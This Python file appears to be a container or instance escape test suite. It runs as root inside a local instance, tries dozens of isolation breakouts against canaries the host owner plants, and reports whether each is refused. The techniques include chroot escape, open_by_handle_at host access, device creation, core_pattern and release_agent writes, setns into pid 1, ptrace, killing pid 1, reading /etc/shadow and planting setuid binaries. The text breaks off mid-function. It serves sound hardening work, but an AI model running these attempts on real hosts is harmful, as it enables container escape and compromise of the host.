#!/usr/bin/env python3
"""Tries to escape from a local instance, as root in the instance.

    sudo python3 escape.py [CANARIES.json]

Each attempt prints one line: `refused GROUP NAME`, `GOT THROUGH GROUP NAME:
detail` or `unavailable GROUP NAME: why`. Each attempt runs in a child process
with a time limit. Normal use must still work: `works NAME` or `BROKEN NAME:
detail`. The exit status is 1 if an attempt got through or normal use is broken.

The optional file describes canaries that the host's owner has planted: files, a
key, listeners, a neighbour instance. Without the file, the attempts that need
canaries are unavailable. The program needs only Python's standard library.

Other uses, for the owner of the host:
    escape.py plant-key DESCRIPTION PAYLOAD     prints the key's number
    escape.py remove-key NUMBER
    escape.py listen PORT RECORD [TARGET]       a neighbour that listens
    escape.py --only GROUP|works [CANARIES.json]
"""

import ctypes
import errno
import fcntl
import glob
import hashlib
import http.client
import json
import mmap
import os
import platform
import re
import resource
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

LIMIT = 10
MIB = 1 << 20

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long

ARM = platform.machine() == "aarch64"
# Name: (x86_64, aarch64); numbers from 424 are the same on all architectures.
NUMBERS = {
    "ptrace": (101, 117), "syslog": (103, 116), "personality": (135, 92),
    "pivot_root": (155, 41), "adjtimex": (159, 171), "acct": (163, 89),
    "settimeofday": (164, 170), "mount": (165, 40), "umount2": (166, 39),
    "swapon": (167, 224), "reboot": (169, 142), "sethostname": (170, 161),
    "iopl": (172, None), "ioperm": (173, None), "init_module": (175, 105),
    "delete_module": (176, 106), "quotactl": (179, 60),
    "clock_settime": (227, 112), "kexec_load": (246, 104),
    "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219),
    "unshare": (272, 97), "perf_event_open": (298, 241),
    "fanotify_init": (300, 262),
    "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265),
    "setns": (308, 268), "process_vm_readv": (310, 270),
    "kcmp": (312, 272), "finit_module": (313, 273), "bpf": (321, 280),
    "userfaultfd": (323, 282), "pidfd_send_signal": (424, 424),
    "io_uring_setup": (425, 425), "open_tree": (428, 428),
    "move_mount": (429, 429), "fsopen": (430, 430), "fsconfig": (431, 431),
    "fsmount": (432, 432), "pidfd_open": (434, 434), "clone3": (435, 435),
    "pidfd_getfd": (438, 438), "mount_setattr": (442, 442),
    "lookup_dcookie": (212, 18), "vhangup": (153, 58),
    "move_pages": (279, 239), "process_madvise": (440, 440),
    "quotactl_fd": (443, 443), "statmount": (457, 457), "listmount": (458, 458),
}

NEW = {
    "mount": 0x00020000, "cgroup": 0x02000000, "uts": 0x04000000,
    "ipc": 0x08000000, "user": 0x10000000, "pid": 0x20000000,
    "net": 0x40000000, "time": 0x00000080,
}

CANARIES = {}


class Unavailable(Exception):
    """The attempt is not possible on this system."""


def call(name, *args):
    """Makes a raw system call. Raises OSError."""
    number = NUMBERS[name][ARM]
    if number is None:
        raise Unavailable("not on this processor")
    return raw(number, *args)


def raw(number, *args):
    keep = []

    def pack(value):
        if value is None:
            return ctypes.c_void_p(None)
        if isinstance(value, str):
            value = value.encode()
        if isinstance(value, bytes):
            value = ctypes.create_string_buffer(value)
        if isinstance(value, int):
            return ctypes.c_long(value)
        keep.append(value)
        return ctypes.byref(value)

    result = LIBC.syscall(ctypes.c_long(number), *[pack(arg) for arg in args])
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


ATTEMPTS = []
WORKS = []


def attempt(group, name=None, limit=LIMIT):
    """Registers an attempt. It returns what it has reached, or nothing if it was
    refused."""
    def mark(function):
        ATTEMPTS.append((group, name or function.__name__, limit, function))
        return function
    return mark


def works(function):
    """Registers a check of normal use. It raises an exception if the use is
    broken."""
    WORKS.append((function.__name__, function))
    return function


def canary(name):
    value = CANARIES.get(name)
    if not value:
        raise Unavailable(f"no canary `{name}`")
    return value


def is_canary(data):
    """Whether the bytes contain the content of a canary."""
    if isinstance(data, str):
        data = data.encode()
    for found in re.findall(rb"canary:[0-9a-f]{32}", data):
        if hashlib.sha256(found).hexdigest() in CANARIES.get("contents", []):
            return found.decode()
    return None


def read_fd(fd, length=MIB):
    try:
        return os.read(fd, length)
    finally:
        os.close(fd)


def read(path, length=MIB):
    return read_fd(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC), length)


def try_read(path, length=MIB):
    try:
        return read(path, length)
    except OSError:
        return b""


def first(values, check):
    """Returns the result of the first value for which the check succeeds."""
    for value in values:
        try:
            got = check(value)
        except OSError:
            continue
        if got:
            return got
    return None


def scratch():
    return tempfile.mkdtemp(prefix="escape-", dir="/var/tmp")


# --- files -----------------------------------------------------------------

def canary_at(prefix):
    def look(path):
        got = is_canary(read(prefix + path))
        return got and f"{prefix}{path} holds {got}"
    return first(canary("files"), look)


@attempt("files")
def private_files_by_their_names():
    return canary_at("")


@attempt("files")
def private_files_through_the_root_of_pid_1():
    return canary_at("/proc/1/root") or canary_at("/proc/1/root/../..")


@attempt("files")
def private_files_through_the_directory_of_pid_1():
    return canary_at("/proc/1/cwd") or canary_at("/proc/1/cwd/../../..")


@attempt("files")
def private_files_through_any_process():
    roots = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/task/*/root")
    return first(roots, canary_at)


@attempt("files")
def private_files_through_open_files_of_any_process():
    def look(path):
        target = os.stat(path)
        if stat.S_ISDIR(target.st_mode):
            return canary_at(path) or canary_at(path + "/../../../../../..")
        if stat.S_ISREG(target.st_mode):
            return is_canary(read(path))
        return None
    return first(glob.glob("/proc/[0-9]*/fd/*"), look)


@attempt("files")
def private_files_through_links():
    place = scratch()

    def look(path):
        link = os.path.join(place, hashlib.sha256(path.encode()).hexdigest())
        os.symlink("/" + "../" * 40 + path.lstrip("/"), link)
        return is_canary(read(link))
    return first(canary("files"), look)


@attempt("files")
def private_files_through_hard_links():
    place = scratch()

    def look(path):
        link = os.path.join(place, "hard")
        os.link(path, link)
        return is_canary(read(link))
    return first(canary("files"), look)


@attempt("files")
def private_files_after_chroot_and_back():
    """Leaves the chroot through a directory that was opened above the new root."""
    above = os.open("/", os.O_RDONLY)
    place = scratch()
    os.chroot(place)
    os.fchdir(above)
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    return canary_at("")


@attempt("files")
def private_files_in_every_mount():
    places = [line.split()[4] for line in open("/proc/self/mountinfo")]
    return first([place for place in places if place != "/"],
                 lambda place: canary_at(place) or canary_at(place + "/../../.."))


@attempt("files")
def private_files_found_by_a_search():
    """Searches all regular files in the usual places of secrets."""
    end = time.monotonic() + 8
    for top in ["/etc", "/root", "/home", "/usr/local", "/opt", "/srv", "/var/lib", "/run", "/mnt"]:
        for place, _, names in os.walk(top):
            for name in names:
                if time.monotonic() > end:
                    return None
                path = os.path.join(place, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode) and is_canary(read(path, 65536)):
                        return path
                except OSError:
                    pass
    return None


@attempt("files")
def the_hosts_password_hashes():
    text = try_read("/etc/shadow") + try_read("/etc/gshadow")
    for line in text.decode(errors="replace").splitlines():
        fields = line.split(":")
        if len(fields) > 1 and len(fields[1]) > 3:
            return f"a password of {fields[0]}"
    return None


@attempt("files")
def host_keys_of_the_hosts_ssh_server():
    wanted = canary("host_keys")
    for path in glob.glob("/etc/ssh/ssh_host_*_key.pub"):
        digest = hashlib.sha256(read(path).split()[1]).hexdigest()
        if digest in wanted:
            return path
    return None


@attempt("files")
def disks_and_state_of_the_cloud():
    def look(path):
        names = os.listdir(path)
        return names and f"{path}: {names[:4]}"
    return first(canary("state"), look)


HANDLE = ctypes.c_char * 136


@attempt("files")
def a_handle_of_the_hosts_root():
    """Opens inode 2 with open_by_handle_at in every mount, like the `shocker`
    exploit."""
    def look(place):
        mount = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        for inode in (2, 128, 256):
            handle = HANDLE()
            struct.pack_into("iiII", handle, 0, 8, 1, inode, 0)
            try:
                fd = call("open_by_handle_at", mount, handle, os.O_RDONLY)
            except OSError:
                continue
            return f"inode {inode} of {place}: {os.listdir(fd)[:5]}"
        return None
    return first({line.split()[4] for line in open("/proc/self/mountinfo")}, look)


@attempt("files")
def a_handle_of_a_file_of_the_instance():
    """Checks whether file handles can be opened at all."""
    handle, mount = HANDLE(), ctypes.c_int()
    struct.pack_into("ii", handle, 0, 128, 0)
    call("name_to_handle_at", -100, "/", handle, mount, 0)
    fd = call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    return f"descriptor {fd}"


@attempt("files")
def attributes_of_the_overlay():
    place = scratch()
    os.setxattr(place, "trusted.overlay.opaque", b"y")
    return "trusted.overlay.opaque was set"


@attempt("files")
def the_program_of_the_cloud_can_be_written():
    def look(path):
        os.close(os.open(path, os.O_WRONLY))
        return path
    return first(["/proc/1/exe", "/run/autorun/bin", *glob.glob("/run/autorun/*")],
                 lambda path: os.path.isfile(path) and look(path))


@attempt("files")
def programs_left_for_a_user_of_the_host():
    """Leaves set-id programs. The host's owner checks that no user of the host
    can run them."""
    program = shutil.which("id") or "/usr/bin/id"
    for place in ["/var/tmp", "/usr/local/bin", "/root", "/tmp", "/dev/shm"]:
        path = os.path.join(place, "escape-set-id")
        shutil.copy(program, path)
        os.chown(path, 0, 0)
        os.chmod(path, 0o6755)
        capable = os.path.join(place, "escape-capable")
        shutil.copy(program, capable)
        # cap_setuid+ep for the namespace's root, in the format of setcap.
        value = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)
        try:
            os.setxattr(capable, "security.capability", value)
        except OSError:
            pass
    return None


# --- devices ---------------------------------------------------------------

def made(kind, numbers):
    def make(number):
        path = os.path.join(scratch(), "device")
        os.mknod(path, kind | 0o600, os.makedev(*number))
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return f"{number} made and opened"
        except OSError as error:
            return f"{number} made, not opened: {error.strerror}"
    return first(numbers, make)


@attempt("devices")
def make_memory_device():
    return made(stat.S_IFCHR, [(1, 1), (1, 4), (1, 11)])


@attempt("devices")
def make_disk_device():
    numbers = [(8, 0), (252, 0), (253, 0), (254, 0), (259, 0), (7, 0)]
    for line in try_read("/proc/partitions").decode().splitlines()[2:]:
        numbers.append(tuple(int(word) for word in line.split()[:2]))
    return made(stat.S_IFBLK, numbers)


@attempt("devices")
def make_device_in_memory():
    path = "/dev/shm/escape-device"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 11))
    os.unlink(path)
    return "made in /dev/shm"


def opened(patterns, mode=os.O_RDWR):
    def look(path):
        info = os.stat(path)
        if not (stat.S_ISCHR(info.st_mode) or stat.S_ISBLK(info.st_mode)):
            return None
        os.close(os.open(path, mode | os.O_NONBLOCK | os.O_NOCTTY))
        return path
    return first([path for pattern in patterns for path in glob.glob(pattern)], look)


@attempt("devices")
def kernel_memory():
    return opened(["/dev/mem", "/dev/kmem", "/dev/port"], os.O_RDONLY)


@attempt("devices")
def kernel_messages():
    return opened(["/dev/kmsg"], os.O_RDONLY) or opened(["/dev/kmsg"], os.O_WRONLY)


@attempt("devices")
def loop_and_fuse_and_device_mapper():
    return opened(["/dev/loop*", "/dev/fuse", "/dev/cuse", "/dev/mapper/control", "/dev/btrfs-control"])


@attempt("devices")
def raw_disks():
    return opened(["/dev/sd*", "/dev/vd*", "/dev/xvd*", "/dev/nvme*", "/dev/dm-*", "/dev/mapper/*",
                   "/dev/disk/by-*/*", "/dev/nbd*", "/dev/sr*"], os.O_RDONLY)


@attempt("devices")
def virtual_machines_and_tunnels():
    return opened(["/dev/kvm", "/dev/vhost*", "/dev/net/tun", "/dev/vsock", "/dev/vfio/*", "/dev/ppp"])


@attempt("devices")
def input_and_screens():
    return opened(["/dev/uinput", "/dev/uhid", "/dev/input/*", "/dev/dri/*", "/dev/fb*", "/dev/snd/*"])


@attempt("devices")
def clocks_and_processors():
    return opened(["/dev/rtc*", "/dev/cpu/*/*", "/dev/hpet", "/dev/watchdog*", "/dev/cpu_dma_latency"])


@attempt("devices")
def any_other_device():
    known = {"null", "zero", "full", "random", "urandom", "tty", "console", "ptmx"}
    paths = [path for path in glob.glob("/dev/*") if os.path.basename(path) not in known]
    return opened(paths, os.O_RDONLY)


@attempt("devices")
def input_for_a_console():
    """TIOCSTI inserts characters into a terminal as if a user had typed them."""
    def look(path):
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        fcntl.ioctl(fd, 0x5412, b"\n")
        return path
    return first(["/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/hvc0"], look)


@attempt("devices")
def terminals_of_the_host():
    """/dev/pts must contain only the instance's own terminals."""
    kind = try_read("/proc/self/mountinfo").decode()
    if not any(" /dev/pts " in line for line in kind.splitlines()):
        raise Unavailable("no /dev/pts")
    fd = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    number = struct.unpack("i", fcntl.ioctl(fd, 0x80045430, b"\0" * 4))[0]
    others = len(glob.glob("/dev/pts/[0-9]*")) - 1
    return f"terminal {number} beside {others}" if number > others + 16 else None


# --- /proc and /sys --------------------------------------------------------

OWN_SETTINGS = re.compile(
    r"^/proc/sys/(net/|user/|fs/mqueue/|kernel/(hostname|domainname|shm\w+|msg\w+|sem\w*|auto_msgmni|ns_last_pid)$)")


def settable(top):
    """Writes the current value of a setting back to it."""
    for place, _, names in os.walk(top):
        for name in names:
            path = os.path.join(place, name)
            if OWN_SETTINGS.match(path):
                continue
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                value = try_read(path)
                if value:
                    os.write(fd, value)
            except OSError as error:
                if error.errno in (errno.EPERM, errno.EACCES, errno.EROFS):
                    continue
            finally:
                os.close(fd)
            return path
    return None


@attempt("proc")
def settings_of_the_kernel():
    return settable("/proc/sys/kernel")


@attempt("proc")
def settings_of_memory():
    return settable("/proc/sys/vm")


@attempt("proc")
def settings_of_file_systems():
    return settable("/proc/sys/fs")


@attempt("proc")
def settings_of_devices_and_the_rest():
    return first(["/proc/sys/dev", "/proc/sys/debug", "/proc/sys/abi", "/proc/sys/sunrpc"], settable)


def writable(path):
    # CAP_DAC_OVERRIDE also opens files that have no writer.
    if not os.stat(path).st_mode & 0o222:
        return None
    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    return path


@attempt("proc")
def the_program_for_core_dumps():
    with open("/proc/sys/kernel/core_pattern", "r+b", buffering=0) as file:
        value = file.read()
        file.write(value)
    return "core_pattern was written"


@attempt("proc")
def limits_of_namespaces():
    """A raised limit of the instance must not allow namespaces."""
    with open("/proc/sys/user/max_user_namespaces", "wb", buffering=0) as file:
        file.write(b"100")
    call("unshare", NEW["user"])
    return "raised, and a user namespace was created"


@attempt("proc")
def the_magic_sysrq_key():
    return writable("/proc/sysrq-trigger")


@attempt("proc")
def memory_of_the_kernel():
    return len(try_read("/proc/kcore", 4096)) > 0 and "/proc/kcore" or None


@attempt("proc")
def addresses_of_the_kernel():
    text = try_read("/proc/kallsyms", 4096) + try_read("/proc/modules", 4096)
    found = re.search(rb"[0-9a-f]*[1-9a-f][0-9a-f]{11,}", text)
    return found and found.group().decode()


@attempt("proc")
def keys_and_timers_of_the_host():
    """/proc/keys with a key of the host, or timers of other processes."""
    description = CANARIES.get("key", {}).get("description", "no canary")
    keys = try_read("/proc/keys").decode(errors="replace")
    if description in keys:
        return "/proc/keys shows the canary"
    timers = try_read("/proc/timer_list", 4096)
    return "/proc/timer_list" if b"expires" in timers else None


@attempt("proc")
def interrupts_and_buses():
    def look(top):
        for place, _, names in os.walk(top):
            for name in names:
                try:
                    got = writable(os.path.join(place, name))
                except OSError:
                    continue
                if got:
                    return got
        return None
    return first(["/proc/irq", "/proc/bus", "/proc/acpi", "/proc/scsi", "/proc/fs", "/proc/driver", "/proc/tty"], look)


@attempt("proc")
def other_writable_files_of_the_kernel():
    names = [path for path in glob.glob("/proc/*") if os.path.isfile(path)]
    harmless = {"/proc/kpagecount"}
    return first([name for name in names if name not in harmless], writable)


@attempt("proc")
def memory_pages_of_the_host():
    return first(["/proc/kpageflags", "/proc/kpagecount", "/proc/kpagecgroup", "/proc/vmallocinfo",
                  "/proc/slabinfo", "/proc/pagetypeinfo"],
                 lambda path: read(path, 64) and path)


def writable_below(top, seconds=8):
    end = time.monotonic() + seconds
    for place, _, names in os.walk(top):
        for name in names:
            if time.monotonic() > end:
                return None
            try:
                got = writable(os.path.join(place, name))
            except OSError:
                continue
            if got:
                return got
    return None


@attempt("sys")
def settings_below_sys_kernel():
    return writable_below("/sys/kernel")


@attempt("sys")
def settings_below_sys_module():
    return writable_below("/sys/module")


@attempt("sys")
def settings_of_devices():
    return writable_below("/sys/devices") or writable_below("/sys/bus", 1)


@attempt("sys")
def settings_of_file_systems_below_sys():
    return writable_below("/sys/fs")


@attempt("sys")
def settings_of_power():
    return writable_below("/sys/power") or writable_below("/sys/firmware")


@attempt("sys")
def the_program_for_events():
    return first(["/sys/kernel/uevent_helper", "/sys/class/firmware/timeout", "/sys/kernel/mm/ksm/run"], writable)


@attempt("sys")
def tables_of_the_firmware():
    paths = glob.glob("/sys/firmware/*/tables/*") + glob.glob("/sys/firmware/dmi/entries/*/raw") \
        + glob.glob("/sys/firmware/efi/efivars/*") + glob.glob("/sys/class/dmi/id/*serial*")
    return first(paths, lambda path: os.path.isfile(path) and read(path, 64) and path)


@attempt("sys")
def traces_of_the_kernel():
    return first(["/sys/kernel/debug", "/sys/kernel/tracing", "/sys/fs/bpf", "/sys/fs/pstore"],
                 lambda path: os.listdir(path) and path)


# --- keyrings --------------------------------------------------------------

RINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user session": -5, "group": -6}
KEYCTL = {"describe": 6, "clear": 7, "link": 8, "unlink": 9, "search": 10, "read": 11,
          "setperm": 5, "chown": 4, "revoke": 3, "persistent": 22, "update": 2}


def key_content(number):
    buffer = ctypes.create_string_buffer(4096)
    length = call("keyctl", KEYCTL["read"], number, buffer, 4096)
    return buffer.raw[:length]


def found_key(number):
    try:
        return is_canary(key_content(number)) or f"key {number} found, not read"
    except OSError:
        return f"key {number} found, not read"


def searched(ring):
    description = canary("key")["description"]
    number = call("keyctl", KEYCTL["search"], ring, "user", description, 0)
    return found_key(number)


@attempt("keyrings")
def search_of_the_user_keyring():
    return searched(RINGS["user"])


@attempt("keyrings")
def search_of_the_user_session_keyring():
    return searched(RINGS["user session"])


@attempt("keyrings")
def search_of_the_session_keyring():
    return searched(RINGS["session"])


@attempt("keyrings")
def search_of_the_persistent_keyring():
    ring = call("keyctl", KEYCTL["persistent"], 0, RINGS["process"])
    return searched(ring)


@attempt("keyrings")
def the_user_keyring_linked_into_the_session():
    call("keyctl", KEYCTL["link"], RINGS["user"], RINGS["session"])
    return searched(RINGS["session"])


@attempt("keyrings")
def a_key_by_its_number():
    key = canary("key")
    return is_canary(key_content(key["number"]))


@attempt("keyrings")
def a_description_by_its_number():
    buffer = ctypes.create_string_buffer(4096)
    call("keyctl", KEYCTL["describe"], canary("key")["number"], buffer, 4096)
    return buffer.value.decode(errors="replace")


@attempt("keyrings")
def a_key_linked_by_its_number():
    number = canary("key")["number"]
    call("keyctl", KEYCTL["link"], number, RINGS["process"])
    return "linked, " + str(found_key(number))


@attempt("keyrings")
def a_key_with_changed_permissions():
    number = canary("key")["number"]
    call("keyctl", KEYCTL["setperm"], number, 0x3F3F3F3F)
    return found_key(number)


@attempt("keyrings")
def a_key_revoked():
    """Runs after the reading and linking attempts, because it removes the canary
    if it gets through."""
    number = canary("key")["number"]
    call("keyctl", KEYCTL["unlink"], number, RINGS["user"])
    return "unlinked from the user keyring"


@attempt("keyrings")
def a_key_by_request():
    number = call("request_key", "user", canary("key")["description"], None, 0)
    return found_key(number)


# --- cgroups ---------------------------------------------------------------

def mounted(kind, options=None, flags=0):
    place = scratch()
    call("mount", kind, place, kind, flags, options)
    try:
        return f"{kind} {options or ''} mounted: {os.listdir(place)[:4]}"
    finally:
        try:
            call("umount2", place, 2)
        except OSError:
            pass


@attempt("cgroups")
def mount_of_version_2():
    return mounted("cgroup2")


@attempt("cgroups")
def mount_of_version_1():
    return first(["memory", "pids", "devices", "rdma", "misc", "none,name=escape", "freezer"],
                 lambda options: mounted("cgroup", options))


@attempt("cgroups")
def settings_of_any_group():
    return writable_below("/sys/fs/cgroup")


def group_files(name):
    found = glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True)
    for line in open("/proc/self/mountinfo"):
        fields = line.split(" - ")
        if fields[1].startswith("cgroup"):
            found += glob.glob(f"{fields[0].split()[4]}/**/{name}", recursive=True)
    return found


@attempt("cgroups")
def the_program_for_empty_groups():
    return first(group_files("release_agent"), writable)


@attempt("cgroups")
def kill_of_other_groups():
    return first(group_files("cgroup.kill"), writable)


@attempt("cgroups")
def own_limits():
    names = ["memory.max", "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us"]
    return first([path for name in names for path in group_files(name)], writable)


@attempt("cgroups")
def leave_the_own_group():
    def leave(path):
        with open(path, "wb", buffering=0) as file:
            file.write(b"0")
        return path
    return first(group_files("cgroup.procs"), leave)


@attempt("cgroups")
def a_new_group():
    def make(path):
        os.mkdir(os.path.join(os.path.dirname(path), "escape"))
        return path
    return first(group_files("cgroup.procs"), make)


@attempt("cgroups")
def names_of_the_hosts_groups():
    """The control group of the instance must look like the root."""
    def look(line):
        path = line.rstrip("\n").split(":", 2)[2]
        return ("autorun" in path or path.startswith("/..")) and path
    return first(open("/proc/self/cgroup").readlines(), look)


@attempt("cgroups")
def groups_through_nested_namespaces():
    call("unshare", NEW["user"] | NEW["mount"] | NEW["cgroup"])
    return mounted("cgroup2")


# --- namespaces ------------------------------------------------------------

def unshared(kind):
    def run():
        call("unshare", NEW[kind])
        return f"a new {kind} namespace"
    run.__name__ = f"new_{kind}_namespace"
    attempt("namespaces")(run)


for _kind in NEW:
    unshared(_kind)


@attempt("namespaces")
def user_namespaces_of_a_user():
    """The kernel may allow more to a user without root rights."""
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    call("unshare", NEW["user"] | NEW["mount"] | NEW["net"])
    return "made by uid 65534"


class Clone(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in
                ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal", "stack", "stack_size", "tls",
                 "set_tid", "set_tid_size", "cgroup")]


@attempt("namespaces")
def clone3_with_a_user_namespace():
    pid = call("clone3", Clone(flags=NEW["user"], exit_signal=signal.SIGCHLD), ctypes.sizeof(Clone))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a child in a user namespace"


@attempt("namespaces")
def clone_with_all_namespaces():
    flags = NEW["user"] | NEW["mount"] | NEW["pid"] | NEW["net"] | NEW["uts"] | NEW["ipc"] | signal.SIGCHLD
    pid = raw(220 if ARM else 56, flags, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a child in new namespaces"


@attempt("namespaces")
def namespaces_of_other_processes():
    own = {name: os.readlink(f"/proc/self/ns/{name}") for name in os.listdir("/proc/self/ns")}

    def enter(path):
        name = os.path.basename(path)
        if os.readlink(path) == own.get(name):
            return None
        call("setns", os.open(path, os.O_RDONLY), 0)
        return path
    return first(glob.glob("/proc/[0-9]*/ns/*"), enter)


@attempt("namespaces")
def entering_the_mounts_of_pid_1():
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    call("setns", fd, 0)
    return "setns to pid 1's mounts"


@attempt("namespaces")
def the_parent_user_namespace():
    """NS_GET_USERNS and NS_GET_PARENT lead to the parent namespaces."""
    def look(request):
        parent = fcntl.ioctl(os.open("/proc/self/ns/user", os.O_RDONLY), request)
        call("setns", parent, 0)
        return "entered"
    return first([0xB701, 0xB702], look)


@attempt("namespaces")
def namespaces_by_a_pidfd():
    pidfd = call("pidfd_open", 1, 0)
    call("setns", pidfd, NEW["mount"] | NEW["net"])
    return "setns by a pidfd of pid 1"


# --- mounts ----------------------------------------------------------------

def mounting(kind, options=None):
    def run():
        return mounted(kind, options)
    run.__name__ = f"mount_of_{kind}"
    attempt("mounts")(run)


for _kind, _options in {
    "tmpfs": None, "proc": None, "sysfs": None, "devpts": None, "ramfs": None, "mqueue": None,
    "devtmpfs": None, "debugfs": None, "tracefs": None, "securityfs": None, "bpf": None,
    "overlay": "lowerdir=/usr:/etc",
}.items():
    mounting(_kind, _options)


@attempt("mounts")
def mount_of_a_disk():
    """Mounts any disk of the kernel, through an existing node or by its name."""
    def look(kind):
        return first(["/dev/sda1", "/dev/vda", "/dev/vda1", "/dev/nvme0n1p1", "/dev/root"],
                     lambda disk: call("mount", disk, scratch(), kind, 1, None) == 0 and disk)
    return first(["ext4", "xfs", "btrfs", "vfat"], look)


@attempt("mounts")
def bind_mount():
    place = scratch()
    call("mount", "/etc", place, None, 0x1000, None)
    return "bind mount of /etc"


@attempt("mounts")
def remounted_for_writing():
    places = {line.split()[4] for line in open("/proc/self/mountinfo")
              if " ro," in line or line.split()[5].startswith("ro")}

    def look(place):
        call("mount", "none", place, None, 0x20 | 0x1000, None)
        return place
    return first(sorted(places), look)


@attempt("mounts")
def unmounted_masks():
    """The mounts over /proc, /sys and /dev hide files."""
    places = [line.split()[4] for line in open("/proc/self/mountinfo")]

    def look(place):
        call("umount2", place, 2)
        return place
    hidden = [place for place in places if place.startswith(("/proc/", "/sys/", "/dev/", "/run/"))]
    return first(hidden, look)


@attempt("mounts")
def changed_root():
    call("pivot_root", ".", ".")
    return "pivot_root"


@attempt("mounts")
def changed_propagation():
    call("mount", None, "/", None, 0x4000 | 0x100000, None)
    return "/ was made shared"


@attempt("mounts")
def new_mount_by_fsopen():
    fd = call("fsopen", "tmpfs", 1)
    call("fsconfig", fd, 6, None, None, 0)
    mount = call("fsmount", fd, 1, 0)
    call("move_mount", mount, "", -100, scratch(), 4)
    return "tmpfs by fsopen, fsmount, move_mount"


@attempt("mounts")
def copied_tree():
    fd = call("open_tree", -100, "/", 1 | 0x8000)
    return f"open_tree returned {fd}"


@attempt("mounts")
def changed_attributes():
    class Attributes(ctypes.Structure):
        _fields_ = [(name, ctypes.c_uint64) for name in ("set", "clear", "propagation", "userns")]
    call("mount_setattr", -100, "/proc", 0, Attributes(clear=1), 32)
    return "mount_setattr on /proc"


# --- ptrace ----------------------------------------------------------------

def traced(request):
    call("ptrace", request, 1, 0, 0)
    try:
        return "pid 1 is traced"
    finally:
        call("ptrace", 17, 1, 0, 0)


@attempt("ptrace")
def attach_to_pid_1():
    return traced(16)


@attempt("ptrace")
def seize_pid_1():
    return traced(0x4206)


@attempt("ptrace")
def descriptors_of_pid_1():
    pidfd = call("pidfd_open", 1, 0)
    return first(range(40), lambda number: f"descriptor {call('pidfd_getfd', pidfd, number, 0)}")


@attempt("ptrace")
def memory_of_pid_1():
    """An EFAULT for an invalid address shows that a valid address could be read."""
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    buffer = ctypes.create_string_buffer(8)
    own = Vector(ctypes.addressof(buffer), 8)
    try:
        call("process_vm_readv", 1, own, 1, Vector(0x400000, 8), 1, 0)
    except OSError as error:
        return "access granted, bad address" if error.errno == errno.EFAULT else None
    return "read"


@attempt("ptrace")
def memory_file_of_pid_1():
    os.close(os.open("/proc/1/mem", os.O_RDWR))
    return "/proc/1/mem opened"


@attempt("ptrace")
def environment_of_pid_1():
    return is_canary(try_read("/proc/1/environ")) or (try_read("/proc/1/environ") and "read") or None


@attempt("ptrace")
def open_files_of_pid_1():
    names = os.listdir("/proc/1/fd")
    return names and first(names, lambda name: os.readlink(f"/proc/1/fd/{name}"))


@attempt("ptrace")
def address_space_of_pid_1():
    return try_read("/proc/1/maps") and "/proc/1/maps was read" or None


@attempt("ptrace")
def other_details_of_pid_1():
    def look(name):
        data = read(f"/proc/1/{name}", 256)
        return data and f"/proc/1/{name}"
    return first(["stack", "syscall", "auxv", "pagemap", "smaps", "numa_maps", "io", "personality"], look)


@attempt("ptrace")
def moved_pages_of_pid_1():
    status = ctypes.c_int()
    page = ctypes.c_void_p(0x400000)
    call("move_pages", 1, 1, page, None, status, 0)
    return "move_pages on pid 1"


@attempt("ptrace")
def pid_1_compared():
    call("kcmp", 1, os.getpid(), 0, 0, 0)
    return "kcmp with pid 1"


@attempt("ptrace")
def score_of_pid_1():
    with open("/proc/1/oom_score_adj", "r+b", buffering=0) as file:
        value = file.read()
        file.write(value)
    return "oom_score_adj of pid 1"


# --- signals ---------------------------------------------------------------

def state_of_pid_1():
    return re.search(r"State:\s+(\w)", open("/proc/1/status").read()).group(1)


@attempt("signals")
def kill_pid_1():
    os.kill(1, signal.SIGKILL)
    time.sleep(0.3)
    return None if state_of_pid_1() in "SRD" else "pid 1 is " + state_of_pid_1()


@attempt("signals")
def stop_pid_1():
    os.kill(1, signal.SIGSTOP)
    os.kill(1, signal.SIGTSTP)
    time.sleep(0.3)
    state = state_of_pid_1()
    os.kill(1, signal.SIGCONT)
    return f"pid 1 is {state}" if state in "Tt" else None


@attempt("signals")
def every_other_signal_to_pid_1():
    """All signals except SIGTERM, which acts as a power button."""
    for number in range(1, 65):
        if number not in (signal.SIGTERM, 32, 33):
            for _ in range(3):
                try:
                    os.kill(1, number)
                except OSError:
                    pass
    time.sleep(0.5)
    os.kill(1, signal.SIGCONT)
    return None if state_of_pid_1() in "SRD" else "pid 1 is " + state_of_pid_1()


@attempt("signals")
def processes_of_the_host():
    """A process of the host by its pid there, and all pids that do not exist in
    the instance."""
    target = canary("process")
    try:
        name = open(f"/proc/{target}/cmdline").read()
